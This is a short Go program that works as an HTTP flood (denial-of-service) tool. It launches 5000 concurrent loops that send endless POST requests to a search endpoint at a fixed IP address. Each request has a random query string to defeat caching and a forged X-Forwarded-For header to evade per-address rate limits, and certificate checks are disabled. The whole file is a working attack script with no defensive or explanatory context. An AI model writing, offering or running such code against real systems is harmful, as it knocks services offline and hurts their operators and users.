package main

import (
	"crypto/tls"
	"math/rand"
	"net/http"
	"strconv"
)

func main() {
	t := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxIdleConnsPerHost: 5000}
	cl := &http.Client{Transport: t}
	for i := 0; i < 5000; i++ {
		go func() {
			for {
				req, _ := http.NewRequest("POST", "https://198.51.100.180/search?q="+strconv.Itoa(rand.Int()), nil)
				req.Header.Set("X-Forwarded-For", strconv.Itoa(rand.Intn(255))+".1.1.1")
				if r, err := cl.Do(req); err == nil {
					r.Body.Close()
				}
			}
		}()
	}
	select {}
}
